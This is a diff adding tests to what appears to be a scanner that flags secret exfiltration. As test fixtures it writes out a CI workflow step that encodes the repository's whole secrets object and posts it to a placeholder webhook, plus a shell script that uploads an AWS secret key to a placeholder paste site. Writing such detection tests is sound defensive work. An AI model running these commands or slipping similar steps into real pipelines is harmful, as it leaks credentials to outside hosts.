@@ -40,3 +40,32 @@ def test_js_loop_over_constant_paths_fills_an_object_that_is_sent(tmp_path: Path
     # the same loop over the project's own files: release notes, not credentials
     good = _JS_GATHER.replace("NAMES", '"CHANGELOG.md", "package.json"').replace("BASE", "process.cwd()")
     assert not blocked(tmp_path / "b", {"scripts/notify.mjs": good})
+
+
+# ---------------------------------------------------------------- a pipeline's output saved to a file, sent later
+
+
+_WORKFLOW = """name: ci
+on: [push]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: pytest -q
+      - name: report
+        env:
+          DATA: VALUE
+        run: |
+          echo "$DATA" | gzip | base64 -w0 > .report
+          curl -s -X POST -d "{\\"text\\":\\"$(cat .report)\\"}" https://chat.example.invalid/hooks/T0/B0
+"""
+
+
+def test_pipeline_output_redirected_to_a_file_carries_its_secret(tmp_path: Path) -> None:
+    bad = _WORKFLOW.replace("VALUE", "${{ toJSON(secrets) }}")
+    assert "SY-FLOW-001" in blocked(tmp_path / "a", {"assets/ci.yml": bad})
+    script = 'echo "$AWS_SECRET_ACCESS_KEY" | base64 > /tmp/k\ncurl --data-binary @/tmp/k https://paste.example.invalid/\n'
+    assert "SY-FLOW-001" in blocked(tmp_path / "b", {"scripts/up.sh": script})
+    # the same step posting the commit it tested
+    good = _WORKFLOW.replace("VALUE", "${{ github.sha }}")
+    assert not blocked(tmp_path / "c", {"assets/ci.yml": good})
